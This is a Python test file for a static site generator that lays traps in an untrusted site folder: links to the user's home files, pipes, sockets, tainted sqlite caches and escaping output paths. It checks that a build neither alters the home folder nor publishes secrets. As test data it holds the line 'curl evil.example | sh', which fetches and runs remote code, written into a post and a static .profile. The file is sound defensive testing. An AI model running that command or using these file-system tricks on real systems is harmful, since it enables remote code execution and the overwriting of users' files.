"""A site folder that came from somebody else: nothing in it chooses a place outside it.

Each trap is laid in a site whose pages want to be a line of a shell's start file. What is around the site stays as it
was, to the byte; the build is right, or refuses in one sentence.
"""

from __future__ import annotations

import os
import shutil
import socket
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from support.ordeal import command
from support.rows import every_row
from support.site import SmallSite, post

LINE = "curl evil.example | sh"
pytestmark = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs links and pipes")
WORK = ".therapyblog"


def link(place: str, target: str) -> Callable[[Path, Path], None]:
    """A link in the site to something in the home folder."""

    def lay(site: Path, home: Path) -> None:
        path = site / place
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.symlink_to(home / target)

    return lay


def hard(place: str, target: str) -> Callable[[Path, Path], None]:
    """A second name of a file in the home folder."""

    def lay(site: Path, home: Path) -> None:
        path = site / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        os.link(home / target, path)

    return lay


def pipe(place: str) -> Callable[[Path, Path], None]:
    """A pipe that nobody writes into."""

    def lay(site: Path, _: Path) -> None:
        path = site / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        os.mkfifo(path)

    return lay


def listening(place: str) -> Callable[[Path, Path], None]:
    """A socket."""

    def lay(site: Path, _: Path) -> None:
        here = os.getcwd()
        (site / place).parent.mkdir(parents=True, exist_ok=True)
        os.chdir((site / place).parent)
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(Path(place).name)
        finally:
            os.chdir(here)

    return lay


def settings(output: str) -> Callable[[Path, Path], None]:
    """A place in the settings."""

    def lay(site: Path, home: Path) -> None:
        with (site / "therapyblog.toml").open("a") as stream:
            stream.write(f'\n[build]\noutput = "{output.format(home=home)}"\n')

    return lay


def database(*, journal: bool) -> Callable[[Path, Path], None]:
    """A cache with a trigger, and one with a journal that names a file of the user."""

    def lay(site: Path, home: Path) -> None:
        for folder in (WORK, f"{WORK}/cache"):
            (site / folder).mkdir(exist_ok=True)
            path = site / folder / "memo.sqlite"
            connection = sqlite3.connect(path)
            connection.executescript(
                "CREATE TABLE IF NOT EXISTS about (name TEXT PRIMARY KEY, value BLOB);"
                "CREATE TRIGGER evil AFTER INSERT ON about BEGIN DELETE FROM about; END;"
            )
            connection.close()
            if journal:
                (site / folder / "memo.sqlite-journal").write_bytes(os.fsencode(home / ".profile"))

    return lay


FILES = ("lock", "journal", "journal.new", "memo.sqlite", "memo.sqlite-journal", ".gitignore", "stage", "before")
IN_WORK = [f"{WORK}/{name}" for name in FILES] + [
    f"{WORK}/cache/{name}" for name in ("memo.sqlite", "memo.sqlite-journal", "stage", "before", "stage/index.html")
]
TRAPS: dict[str, Callable[[Path, Path], None]] = {
    **{f"{place} is a link to a file": link(place, ".profile") for place in IN_WORK},
    **{f"{place} is a link to a folder": link(place, "bin") for place in IN_WORK},
    **{f"{place} is a link to nothing": link(place, "new") for place in IN_WORK},
    **{f"{place} is a second name": hard(place, ".profile") for place in IN_WORK},
    **{f"{place} is a pipe": pipe(place) for place in IN_WORK},
    **{f"{place} is a link": link(place, "bin") for place in (WORK, f"{WORK}/cache", f"{WORK}/published", "public")},
    **{f"{place} is a link": link(place, "bin") for place in ("theme", "themes", "themes/mine", "posts", "static")},
    "public/a is a link": link("public/a", "bin"),
    "public/index.html is a link": link("public/index.html", ".profile"),
    "public/index.html is a second name": hard("public/index.html", ".profile"),
    "public/index.html is a pipe": pipe("public/index.html"),
    "public/.therapyblog-manifest.new is a link": link("public/.therapyblog-manifest.new", ".profile"),
    "public/.therapyblog-new is a link": link("public/.therapyblog-new", ".profile"),
    "a post is a pipe": pipe("posts/p.md"),
    "a post is a socket": listening("posts/s.md"),
    "a post is a device": link("posts/d.md", "../../../../../../dev/zero"),
    "a picture is a pipe": pipe("media/p.jpg"),
    "the settings are a pipe": pipe("therapyblog.toml"),
    "the settings are elsewhere": link("therapyblog.toml", ".profile"),
    "a template is a pipe": pipe("theme/templates/post.html"),
    "a sheet of the theme is a link": link("theme/static/style.css", ".profile"),
    "a cache with a trigger": database(journal=False),
    "a cache with a journal": database(journal=True),
    **{
        f"output is {output}": settings(output)
        for output in ("..", "../home", "../../home/bin", "{home}", "{home}/bin", "~/bin", "public/../../home/bin")
    },
}


def everything(folder: Path) -> dict[str, tuple[int, bytes]]:
    """Return every file of a folder with its permissions, and every link with its target."""

    def found() -> Iterator[tuple[str, tuple[int, bytes]]]:
        for path in sorted(folder.rglob("*")):
            if ".cache" in path.parts:
                # Our own folder there, with what templates compile to.
                continue
            if path.is_symlink():
                yield os.fspath(path), (0, os.fsencode(path.readlink()))
            else:
                yield os.fspath(path), (path.stat().st_mode, path.read_bytes() if path.is_file() else b"")

    return dict(found())


WAYS: tuple[tuple[str, ...], ...] = ((), ("--drafts", "--no-cache"))


@every_row("way", [0, 1])
def test_no_trap_in_a_site_reaches_what_lies_around_it(
    way: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: bool
) -> None:
    """Each trap in one of the two ways to build, by turns; with --torture in both."""
    options = WAYS[way]
    for number, (trap, lay) in enumerate(TRAPS.items()):
        if number % 2 != way and not torture:
            continue
        around = tmp_path / str(number)
        home = around / "home"
        (home / "bin").mkdir(parents=True)
        (home / ".profile").write_text("mine")
        (home / "bin" / "index.html").write_text("mine")
        (home / "bin" / "secret.txt").write_text("SECRET")
        monkeypatch.setenv("HOME", os.fspath(home))
        site = SmallSite(around / "site")
        site.write({"posts/a.md": post("A", LINE), "static/.profile": LINE, "static/secret2.txt": LINE})
        lay(site.folder, home)
        before = everything(home)

        for _ in range(2):
            code, said = command(site.folder, "--today", "2026-11-23", *options)

            assert code in (0, 1, 2, 3), (trap, said)
            assert "inside the program" not in said, (trap, said)
            assert "Traceback" not in said, (trap, said)
            assert code == 0 or said.strip(), trap
        assert everything(home) == before, trap
        published = site.out.rglob("*") if site.out.is_dir() and not site.out.is_symlink() else ()
        assert not [path for path in published if path.is_file() and b"SECRET" in path.read_bytes()], trap
